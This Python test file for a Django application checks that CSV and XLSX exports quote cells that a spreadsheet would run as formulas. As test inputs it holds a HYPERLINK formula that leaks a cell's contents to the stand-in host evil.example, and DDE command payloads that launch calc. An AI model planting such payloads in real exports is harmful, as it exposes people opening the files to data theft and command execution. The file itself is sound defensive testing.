"""Issue 10, item 9: no cell of a CSV or XLSX export can run as a formula in a spreadsheet.

A staff name "=HYPERLINK(...)" lands in the list of accesses handed to the person; an import
path or message lands in the import errors CSV; a platform name in the steering exports. Each
such text cell starts with a quote; numbers stay numbers. Every writer uses tremplin.lib.spreadsheet.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from tests.conftest import client_for
from tests.factories import StaffFactory
from tremplin.lib.spreadsheet import safe_cell
from tremplin.organisations.models import Staff

PACKAGE = Path(__file__).resolve().parents[2] / "tremplin"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_item9_a_text_cell_that_a_spreadsheet_would_run_is_quoted(start):
    assert safe_cell(start + "cmd|' /C calc'!A0") == "'" + start + "cmd|' /C calc'!A0"


@pytest.mark.parametrize("value", ["Claire Martin", "", "1,5", "-1,5", "-3", "+2.5e3", 12, -4.5, None])
def test_item9_plain_texts_and_numbers_are_left_alone(value):
    assert safe_cell(value) == value


def test_item9_a_formula_that_looks_like_arithmetic_is_still_quoted():
    assert safe_cell("-1+cmd|' /C calc'!A0").startswith("'") and safe_cell("-2+3") == "'-2+3"


def _csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def test_item9_a_staff_name_in_the_access_list_csv_does_not_run(lead, person, manager):
    attacker = StaffFactory(organisation=lead, name=HYPERLINK, function=Staff.Function.COUNSELLOR)
    client_for(attacker).get(reverse("person_detail", args=[person.pk]))
    rows = _csv(client_for(manager).get(reverse("person_accesses_csv", args=[person.pk])))
    names = [row[1] for row in rows[1:]]
    assert "'" + HYPERLINK in names and HYPERLINK not in names


def test_item9_the_import_errors_csv_does_not_run_paths_or_messages(manager):
    from tremplin.steering.models import ImportJob

    job = ImportJob.objects.create(
        user=manager.user,
        file_name="lot.json",
        status=ImportJob.Status.REFUSED,
        error_count=1,
        errors=[{"path": "=cmd|' /C calc'!A0", "message": "@SUM(1+1)*cmd|' /C calc'!A0"}],
    )
    rows = _csv(client_for(manager).get(reverse("bundle_import_errors", args=[job.pk])))
    assert rows[1] == ["'=cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"]


def test_item9_steering_csv_and_xlsx_quote_a_hostile_platform_name_and_keep_numbers(platform, manager):
    from openpyxl import load_workbook

    platform.name = "=1+2"
    platform.save()
    query = "?start=2025-07-01&end=2025-09-30&scope=platform"
    client = client_for(manager)
    rows = _csv(client.get(reverse("steering_export", args=["csv"]) + query))
    assert ["", "Plateforme", "platform", "'=1+2"] in rows
    workbook = load_workbook(io.BytesIO(client.get(reverse("steering_export", args=["xlsx"]) + query).content))
    sheet = workbook.active
    assert sheet["B2"].value == "'=1+2" and sheet["B2"].data_type == "s"  # text, not a formula
    numbers = [row[2] for row in sheet.iter_rows(min_row=7, values_only=True) if row and row[4]]
    assert numbers and all(v is None or isinstance(v, int | float) for v in numbers)


def test_item9_every_csv_and_xlsx_writer_goes_through_the_one_helper():
    direct = re.compile(r"csv\.(writer|DictWriter)\(|\bsheet\.append\(|\.cell\([^)]*value=")
    offenders = []
    for path in PACKAGE.rglob("*.py"):
        if path.name == "spreadsheet.py" and path.parent.name == "lib":
            continue
        text = path.read_text()
        if direct.search(text):
            offenders.append(str(path.relative_to(PACKAGE)))
    assert offenders == [], f"write CSV/XLSX cells with tremplin.lib.spreadsheet: {offenders}"
